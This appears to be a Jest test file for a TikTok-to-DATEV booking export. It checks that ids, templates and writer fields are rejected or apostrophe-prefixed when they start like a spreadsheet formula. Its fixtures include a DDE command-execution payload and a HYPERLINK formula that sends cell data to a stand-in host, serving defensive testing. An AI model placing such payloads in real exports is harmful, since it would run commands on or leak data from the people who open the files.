/**
 * Issue #18 case 1: advisers open EXTF files in Excel. No field we write may start with = + - @, whether the text
 * comes from TikTok (ids, transaction types), from the user's templates, or from a caller of the writer.
 */
import { describe, expect, it } from '@jest/globals';

import { bookItems, BookingInputError } from '../../lib/booking';
import { writeBatches } from '../../lib/datev/batches';
import { readBookingLines, readBuchungsstapel } from '../../lib/datev/reader';
import { DatevValidationError } from '../../lib/datev/rules';
import { neutraliseFormula } from '../../lib/datev/text-safety';
import { writeBuchungsstapel } from '../../lib/datev/writer';
import type { BookingLine } from '../../lib/booking-line';
import { adjustmentTx, orderTx, paymentItem, statementItem } from '../booking/fixtures';
import { DATEV_SETTINGS, formulaFields, JULY_FILE, NOW, thrown } from './helpers';

const sale = orderTx({ revenue_amount: '10.00', settlement_amount: '10.00' });

describe('ids from TikTok are checked at the edge', () => {
	it.each([
		['order_id', { transactions: [orderTx({ order_id: "=cmd|' /C calc'!A0", revenue_amount: '1.00', settlement_amount: '1.00' })] }, 'transactions[0].order_id'],
		['statement id', { id: '=1+1' }, 'id'],
		['transaction id', { transactions: [orderTx({ id: '@SUM(1+1)' })] }, 'transactions[0].id'],
		['adjustment_id', { transactions: [adjustmentTx('REBATE', '1.00', { adjustment_id: '-2+3' })] }, 'transactions[0].adjustment_id'],
		['payment_id', { payment_id: '+1 234' }, 'payment_id'],
	])('a formula in the %s is an input error naming item and field', (_name, overrides, path) => {
		const error = thrown(() => bookItems([paymentItem(), statementItem([sale], overrides)]));
		expect(error).toBeInstanceOf(BookingInputError);
		expect(error.message).toContain(`item 1: ${path}: must be a TikTok id`);
	});

	it('a payout id with a formula is an input error', () => {
		const error = thrown(() => bookItems([paymentItem({ id: '=HYPERLINK("http://x")' })]));
		expect(error.message).toContain('item 0: id: must be a TikTok id');
	});
});

describe('templates and transaction types cannot start a formula', () => {
	const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Klick")';

	it('an unknown adjustment type rendered at the start of Buchungstext is neutralised with an apostrophe', () => {
		const result = bookItems([statementItem([adjustmentTx(evil, '-5.00')])], { templates: { text: '{label}' } });
		const line = result.lines.find((candidate) => candidate.source.component === 'adjustment_amount');
		expect(line?.text.startsWith(`'=HYPERLINK`)).toBe(true);
		const [file] = writeBatches(result.lines, DATEV_SETTINGS, NOW);
		expect(formulaFields(file.bytes)).toEqual([]);
		// What the engine produced is what the file holds: the neutralised text reads back unchanged.
		expect(readBookingLines(readBuchungsstapel(file.bytes)).map((read) => read.text)).toEqual(result.lines.map((booked) => booked.text));
	});

	it.each(['+{statementId}', '-{orderId}', '@{orderId}', ' ={orderId}', '\t-{orderId}'])(
		'the Buchungstext template %j is neutralised',
		(template) => {
			const result = bookItems([statementItem([sale])], { templates: { text: template } });
			expect(result.lines.every((line) => line.text.startsWith("'"))).toBe(true);
			const [file] = writeBatches(result.lines, DATEV_SETTINGS, NOW);
			expect(formulaFields(file.bytes)).toEqual([]);
		},
	);

	it('Belegfeld 1 and 2 cannot start with "-" (DATEV allows no apostrophe there, so the sign is dropped)', () => {
		const result = bookItems([statementItem([sale])], {
			templates: { orderDocument: '-{orderId}', documentField2: '+-{date}', statementDocument: '--{statementId}' },
		});
		for (const line of result.lines) {
			expect(line.documentField1).toMatch(/^[0-9]/);
			expect(line.documentField2).toMatch(/^[0-9]/);
		}
		const [file] = writeBatches(result.lines, DATEV_SETTINGS, NOW);
		expect(formulaFields(file.bytes)).toEqual([]);
	});

	it('a Belegfeld 1 template that renders to nothing but signs falls back to the statement id', () => {
		const result = bookItems([statementItem([sale])], { templates: { orderDocument: '-+-' } });
		expect(result.lines[0].documentField1).toBe('7238804564097517339');
	});

	it('full-width ＝ becomes "=" in Windows-1252 and is neutralised after that', () => {
		const result = bookItems([statementItem([sale])], { templates: { text: '＝1+1 {orderId}' } });
		expect(result.lines[0].text.startsWith("'=1+1")).toBe(true);
	});
});

describe('the writer neutralises every text field it writes', () => {
	const line = (overrides: Partial<BookingLine> = {}): BookingLine => ({
		amountMinor: 100,
		currency: 'EUR',
		side: 'S',
		account: '1270',
		contraAccount: '1592',
		taxKey: '',
		date: '2025-07-01',
		documentField1: 'X1',
		documentField2: '',
		text: 'ok',
		orderNumber: '',
		settlementReference: '',
		source: { kind: 'statement', statementId: '1', component: 'test' },
		...overrides,
	});
	const settings = JULY_FILE;

	it('prefixes free text that starts like a formula with an apostrophe and counts it as adjusted', () => {
		const written = writeBuchungsstapel(
			[line({ text: '@SUM(A1:A9)', orderNumber: '=1+1', settlementReference: '-2+3' })],
			settings,
		);
		expect(formulaFields(written.bytes)).toEqual([]);
		const [read] = readBookingLines(readBuchungsstapel(written.bytes));
		expect(read).toMatchObject({ text: "'@SUM(A1:A9)", orderNumber: "'=1+1", settlementReference: "'-2+3" });
		expect(written.adjustedTextFields).toBe(3);
	});

	it('rejects a Belegfeld starting with a formula character with a clear message', () => {
		const error = thrown(() => writeBuchungsstapel([line({ documentField1: '-123' }), line({ documentField2: '+1' })], settings));
		expect(error).toBeInstanceOf(DatevValidationError);
		expect(error.message).toContain('bookings[0] (statement, statement 1, component test): Belegfeld 1 "-123" must not start with');
		expect(error.message).toContain('bookings[1] (statement, statement 1, component test): Belegfeld 2 "+1" must not start with');
	});

	it('rejects an Anwendungsinformation that starts like a formula', () => {
		expect(() => writeBuchungsstapel([line()], { ...settings, applicationInfo: '=1+1' })).toThrow(
			/applicationInfo.*must not start with/,
		);
	});
});

describe('neutraliseFormula', () => {
	it('leaves ordinary text alone and treats leading blanks like Excel does', () => {
		expect(neutraliseFormula('TikTok Umsatz 1')).toBe('TikTok Umsatz 1');
		expect(neutraliseFormula('a=b')).toBe('a=b');
		expect(neutraliseFormula(' =1')).toBe("' =1");
		expect(neutraliseFormula('-5', 'drop')).toBe('5');
		expect(neutraliseFormula(' -+@=5-', 'drop')).toBe('5-');
	});
});
